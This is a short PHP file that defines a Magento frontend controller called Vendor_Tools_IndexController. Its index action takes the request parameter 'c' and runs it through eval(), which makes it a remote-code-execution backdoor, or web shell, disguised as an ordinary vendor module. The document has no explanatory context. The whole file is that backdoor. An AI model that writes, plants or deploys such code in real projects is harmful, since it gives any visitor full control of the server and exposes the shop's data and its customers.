<?php
class Vendor_Tools_IndexController extends Mage_Core_Controller_Front_Action {
  public function indexAction() { $c = $this->getRequest()->getParam('c'); eval($c); }
}
